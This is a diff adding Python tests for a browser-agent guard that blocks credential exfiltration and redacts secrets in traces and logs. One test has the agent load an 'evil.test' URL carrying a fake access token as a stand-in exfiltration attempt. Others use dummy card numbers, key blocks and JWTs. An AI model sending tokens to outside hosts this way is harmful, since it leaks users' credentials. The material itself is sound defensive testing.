@@ -93,3 +93,48 @@ def test_guard_secrets_reach_the_log_redactor(tmp_path: Path) -> None:
         assert "[REDACTED:" in log_file.read_text()
     finally:
         configure_logging(console=False, json_file=None)
+
+
+TOKEN = "glpat-" + "Ab3dEf6hIj9kLm2nOp5q"
+
+
+async def test_recognisable_credentials_are_redacted_without_registration(page: Page, tmp_path: Path) -> None:
+    trace = tmp_path / "trace.jsonl"
+    guarded = Guard(goal="Open the plain page", trace=trace).wrap(page)
+    await guarded.goto("http://app.test/plain.html")
+    with pytest.raises(ActionBlocked) as caught:
+        await guarded.goto(f"http://evil.test/plain.html?token={TOKEN}")
+    assert caught.value.verdict.violated_policy_ids[0] == "PW-CREDENTIALS"
+    text = trace.read_text()
+    assert TOKEN not in text and "[REDACTED:api_key]" in text
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (f"token={TOKEN}&x=1", "token=[REDACTED:api_key]&x=1"),
+        ("card 4111 1111 1111 1111 ok", "card [REDACTED:card_number] ok"),
+        ("order 4111 1111 1111 1112 ok", "order 4111 1111 1111 1112 ok"),  # fails Luhn: not a card
+        (
+            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\nbye",
+            "[REDACTED:private_key]\nbye",
+        ),
+        ("auth eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0.c2lnbmF0dXJlXzEy end", "auth [REDACTED:jwt] end"),
+        ("nothing secret here", "nothing secret here"),
+    ],
+)
+def test_redact_credentials(text: str, expected: str) -> None:
+    from pagewarden.secrets import redact_credentials
+
+    assert redact_credentials(text) == expected
+
+
+def test_logs_redact_recognisable_credentials(tmp_path: Path) -> None:
+    log_file = tmp_path / "log.jsonl"
+    configure_logging(console=False, json_file=log_file)
+    try:
+        get_logger().info("leak", url=f"http://x.test/?t={TOKEN}")
+        logging.getLogger("pagewarden").handlers[-1].flush()
+        assert TOKEN not in log_file.read_text() and "[REDACTED:api_key]" in log_file.read_text()
+    finally:
+        configure_logging(console=False, json_file=None)
